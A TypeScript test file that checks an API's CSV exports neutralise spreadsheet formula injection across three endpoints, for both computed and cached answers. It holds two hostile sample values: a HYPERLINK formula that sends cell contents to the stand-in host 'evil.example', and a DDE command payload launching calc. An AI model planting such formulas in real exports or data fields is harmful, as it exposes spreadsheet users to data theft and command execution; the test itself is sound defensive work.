import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pledge } from '../testing/sample-events.js';
import { postJson, startTestApp, type TestApp } from '../testing/test-app.js';

const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';
const command = "=cmd|' /C calc'!A0";

let app: TestApp;

beforeAll(async () => {
  app = await startTestApp();
  const hostile = pledge('BR', 'formula-pledge');
  const answer = await postJson(app, '/v1/events', {
    ...hostile,
    source: { ...hostile.source, document: hyperlink },
    data: { ...hostile.data, actorName: command },
  });
  expect(answer.status).toBe(201);
});
afterAll(async () => {
  await app.dispose();
});

/** Every cell of a CSV line that a spreadsheet would run as a formula. */
function liveFormulas(csv: string): string[] {
  return csv
    .split(/\r?\n/)
    .flatMap((line) => line.split(','))
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) || /^"[=+\-@\t\r]/.test(cell));
}

describe('CSV answers with formulas in outside text', () => {
  it.each([
    ['/v1/events?format=csv', [hyperlink, command]],
    ['/v1/membership?asOf=2021-01-31&format=csv', [command]],
    ['/v1/actors?format=csv', [command]],
  ])('%s neutralises them, computed and from the answer cache', async (path, texts) => {
    for (const attempt of ['computed', 'cached']) {
      const response = await fetch(`${app.url}${path}`);
      expect(response.status, attempt).toBe(200);
      expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
      const csv = await response.text();
      expect(liveFormulas(csv), attempt).toEqual([]);
      for (const text of texts) expect(csv).toContain(`"'${text.replaceAll('"', '""')}"`);
    }
  });
});
